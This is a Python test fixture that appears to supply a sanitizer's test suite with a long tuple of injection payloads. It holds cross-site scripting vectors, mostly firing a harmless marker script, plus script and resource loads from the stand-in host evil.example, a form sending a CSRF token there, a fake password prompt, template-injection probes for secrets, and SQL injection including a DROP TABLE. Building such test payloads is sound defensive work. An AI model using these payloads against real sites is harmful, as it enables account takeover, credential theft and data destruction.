"""Words that would act if a page ever took them for its own; written for these tests. `RUN` is the script to run."""

from __future__ import annotations

RUN = "window.top.zgodaRan=1"

_MARKUP = """
<script>RUN</script>
<SCRIPT >RUN</SCRIPT >
<script/x>RUN</script>
<script src=//evil.example/x.js></script>
<script src="data:text/javascript,RUN"></script>
<script type=module>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script>/*"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><script>RUN</script>
</textarea><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
--><script>RUN</script><!--
]]><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
</pre><img src=x onerror=RUN>
</button><img src=x onerror=RUN>
</li></ul></main><img src=x onerror=RUN>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img/src=x/onerror=RUN>
<img src=x onerror=RUN//
<IMG SRC=x ONERROR=RUN>
<img src="x" onerror=&#119;indow.top.zgodaRan=1>
<img src onerror=RUN>
<img srcset="x 1x" onerror=RUN>
<image src=x onerror=RUN>
<img src=javascript:RUN>
<img lowsrc=//evil.example/a.gif dynsrc=//evil.example/b.gif src=//evil.example/c.gif>
<picture><source srcset=//evil.example/d.gif><img src=//evil.example/e.gif></picture>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href=data:,RUN />
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x to=1>
<svg><a xlink:href="javascript:RUN"><text y=20>press</text></a></svg>
<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>press</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg><feImage href=//evil.example/f.svg /></svg>
<svg><image href=//evil.example/g.svg /></svg>
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math href="javascript:RUN">press</math>
<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>RUN</script>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noembed><p title="</noembed><img src=x onerror=RUN>">
<noframes><p title="</noframes><img src=x onerror=RUN>">
<template><img src=x onerror=RUN></template>
<select><template><img src=x onerror=RUN></template></select>
<select><option><style></option></select><img src=x onerror=RUN></style>
<xmp><p title="</xmp><img src=x onerror=RUN>">
<plaintext><img src=x onerror=RUN>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<table><tr><td background="javascript:RUN">x
<p title="a`b" title='"><img src=x onerror=RUN>'>x</p>
<p title="&quot;&gt;&lt;img src=x onerror=RUN&gt;">x</p>
<p id="x" name="x" class="btn primary" onclick=RUN>press</p>
<p onmouseover=RUN onfocus=RUN tabindex=0 autofocus>x</p>
<p/onpointerenter=RUN>x</p>
<p style="width:expression(RUN)">x</p>
<p style="background:url(//evil.example/h.gif)">x</p>
<p style="background:url(javascript:RUN)">x</p>
<p style="animation-name:breathe" onanimationstart=RUN>x</p>
<p style="position:fixed;inset:0;z-index:9999">You are logged out. Write your password here.</p>
<style>@import '//evil.example/i.css';</style>
<style>*{background:url(//evil.example/j.gif)}</style>
<style>body{animation:x}@keyframes x{}</style><body onanimationstart=RUN>
<link rel=stylesheet href=//evil.example/k.css>
<link rel=prefetch href=//evil.example/l>
<link rel=import href="data:text/html,<script>RUN</script>">
<meta http-equiv=refresh content="0;url=//evil.example/m">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=set-cookie content="zgoda_session=x">
<base href=//evil.example/>
<iframe src=javascript:RUN></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src=//evil.example/n></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<object data="javascript:RUN"></object>
<object data=//evil.example/o.swf></object>
<embed src="javascript:RUN">
<embed src=//evil.example/p.svg>
<applet code=x archive=//evil.example/q.jar></applet>
<frameset onload=RUN><frame src=javascript:RUN></frameset>
<body onload=RUN>
<body onpageshow=RUN background=//evil.example/r.gif>
<html onmouseenter=RUN>
<video src=x onerror=RUN></video>
<video poster=//evil.example/s.gif><source onerror=RUN src=x></video>
<audio src=x onerror=RUN autoplay></audio>
<details open ontoggle=RUN><summary>x</summary></details>
<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>
<input autofocus onfocus=RUN>
<input type=image src=//evil.example/t.gif onerror=RUN>
<textarea autofocus onfocus=RUN></textarea>
<select autofocus onfocus=RUN></select>
<button formaction=javascript:RUN>press</button>
<form action=//evil.example/u><input name=csrfmiddlewaretoken></form>
<form action="/settings/people/" method=post><button>press</button></form>
<marquee onstart=RUN>x</marquee>
<keygen autofocus onfocus=RUN>
<isindex action=javascript:RUN type=image>
<a href="javascript:RUN">press</a>
<a href="JaVaScRiPt:RUN">press</a>
<a href="java&#10;script:RUN">press</a>
<a href="&#1;javascript:RUN">press</a>
<a href="javascript&colon;RUN">press</a>
<a href="data:text/html,<script>RUN</script>">press</a>
<a href="vbscript:RUN">press</a>
<a href="//evil.example/v" ping="//evil.example/w" target=_top>press</a>
<a href="http://x@evil.example\\@127.0.0.1/" onclick=RUN>press</a>
<area href=javascript:RUN shape=default>
<x onclick=RUN contenteditable autofocus onfocus=RUN>x</x>
<custom-element onconnected=RUN is=x>x</custom-element>
<div popover id=z onbeforetoggle=RUN>x</div><button popovertarget=z>press</button>
<div data-refresh-url="//evil.example/aa" data-refresh-every="1" data-do="send" hx-get="//evil.example/bb">x</div>
<div data-undo data-notice-words data-url="javascript:RUN" data-events-url="//evil.example/cc">x</div>
<p>\u202e<script>RUN</script>\u202c</p>
<\u0000script>RUN</script>
\u00bcscript\u00beRUN\u00bc/script\u00be
\uff1cscript\uff1eRUN\uff1c/script\uff1e
+ADw-script+AD4-RUN+ADw-/script+AD4-
"""
_TEXT = """
{{7*7}}
{{ request.user.password }}
{% load static %}{% include "zgoda/base.html" %}
{{ settings.SECRET_KEY }}{{ debug }}
${7*7}#{7*7}<%= 7*7 %>
%s%d%n{0}{name}
%(name)s{time}{rule}
' OR 1=1 --
"; DROP TABLE conversations_message; --
javascript:RUN
data:text/html,<script>RUN</script>
" onmouseover="RUN
' autofocus onfocus='RUN
` onerror=`RUN
" style="position:fixed" x="
</a></b></p></div></section></main></body></html>
&lt;script&gt;RUN&lt;/script&gt;
\\u003cscript\\u003eRUN
<!-- <script>RUN</script> -->
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">RUN</script>
"""
PAYLOADS: tuple[str, ...] = tuple(line.replace("RUN", RUN) for line in (_MARKUP + _TEXT).splitlines() if line.strip())
